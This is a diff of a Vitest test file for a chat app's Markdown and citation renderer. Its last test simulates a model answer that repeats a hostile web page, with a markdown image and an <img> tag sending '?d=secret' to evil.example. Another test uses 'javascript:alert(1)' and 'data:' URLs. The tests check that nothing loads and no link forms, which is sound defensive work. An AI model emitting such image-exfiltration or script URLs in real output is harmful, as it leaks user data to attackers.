@@ -1,10 +1,25 @@
 import { renderToStaticMarkup } from "react-dom/server";
 import { afterEach, describe, expect, it, vi } from "vitest";
-import { Markdown, readLink } from "./markdown.tsx";
+import { hostilePages } from "../../../test/hostile-pages/pages.ts";
+import type { KnownSource } from "../client/conversation.ts";
+import { SourceList } from "./cited.tsx";
+import { readLink } from "./link.ts";
+import { Markdown } from "./markdown.tsx";
+import { SourcesContext } from "./sources.ts";
 
-function draw(text: string, open = false): string {
-  return renderToStaticMarkup(<Markdown text={text} open={open} />).replaceAll(/ class="[^"]*"/g, "");
+function draw(text: string, open = false, sources: Record<number, KnownSource> = {}): string {
+  const drawn = (
+    <SourcesContext value={sources}>
+      <Markdown text={text} open={open} />
+    </SourcesContext>
+  );
+  return renderToStaticMarkup(drawn).replaceAll(/ class="[^"]*"/g, "");
 }
+
+const tea: KnownSource = {
+  ...{ n: 3, url: "https://tea.example/a", title: 'Tea "1610" <b>', date: null, fetched_at: null, hash: null },
+  read: true,
+};
 
 afterEach(() => {
   vi.unstubAllGlobals();
@@ -80,5 +95,57 @@ describe("a model's text", () => {
 
   it("is shown as it is where it is nested too deeply to follow", () => {
     expect(draw(`${"> ".repeat(4_000)}deep`)).toContain("deep");
+  });
+});
+
+describe("a citation", () => {
+  it("is a link with the source's title, in prose, lists and tables", () => {
+    const link =
+      '[<a href="https://tea.example/a" title="Tea &quot;1610&quot; &lt;b&gt;" target="_blank" rel="noopener noreferrer">3</a>]';
+    for (const text of ["In 1610 [3].", "- In 1610 [3].", "| a |\n|---|\n| x [3] |", "**In 1610** [3]"])
+      expect(draw(text, false, { 3: tea }).replaceAll(/<\/?span>/g, "")).toContain(link);
+  });
+
+  it("shows what was not read as such, and what is unknown as text", () => {
+    const drawn = draw("In 1610 [3, 4]. Ships [5].", false, { 3: { ...tea, read: false, title: null } });
+    expect(drawn).toContain('title="tea.example (not read)" data-unread="true"');
+    expect(drawn).toContain("</a>, 4]");
+    expect(drawn).toContain("Ships [5].");
+  });
+
+  it.each(["`a [3]`", "```\na [3]\n```", "a[3]", "[3](https://x.example/)", "[^3]"])("is not made of %s", (text) => {
+    expect(draw(text, false, { 3: tea })).not.toContain("tea.example");
+  });
+
+  it.each(["javascript:alert(1)", "data:text/html,x", "not an address"])("leads nowhere but to the web: %s", (url) => {
+    expect(draw("In 1610 [3].", false, { 3: { ...tea, url } })).not.toContain("<a");
+    const list = (
+      <SourcesContext value={{ 3: { ...tea, url } }}>
+        <SourceList text="In 1610 [3]." />
+      </SourcesContext>
+    );
+    expect(renderToStaticMarkup(list)).not.toContain("<a");
+  });
+
+  it("is listed below its text once, by number, with host and whether it was read", () => {
+    const list = (text: string) =>
+      renderToStaticMarkup(
+        <SourcesContext value={{ 3: tea, 1: { ...tea, n: 1, title: "Ships", read: false } }}>
+          <SourceList text={text} />
+        </SourcesContext>,
+      ).replaceAll(/<[^>]*>/g, "|");
+    expect(list("See [3], [1][3] and [9].").replaceAll(/\|+/g, "|")).toBe(
+      "|2 sources|[1]|Ships| |tea.example|not read|[3]|Tea &quot;1610&quot; &lt;b&gt;| |tea.example|",
+    );
+    expect(list("Nothing cited, `[3]`.")).toBe("");
+  });
+});
+
+describe("an answer that repeats a hostile page", () => {
+  it.each(hostilePages.map(({ name, body }) => [name, body]))("loads nothing: %s", (_name, body) => {
+    const text = `${body}\n\n![chart](https://evil.example/p.png?d=secret) <img src="https://evil.example/q.png">`;
+    const drawn = draw(text, false, { 3: { ...tea, title: body.slice(0, 300) } });
+    expect(drawn).not.toMatch(/<(?:img|iframe|script|style|link|object|embed|video|audio|source)\b/i);
+    expect(drawn.replaceAll(/&[^;]+;/g, "")).not.toMatch(/<[^>]*\s(?:src|srcset|poster|style|background)=/i);
   });
 });
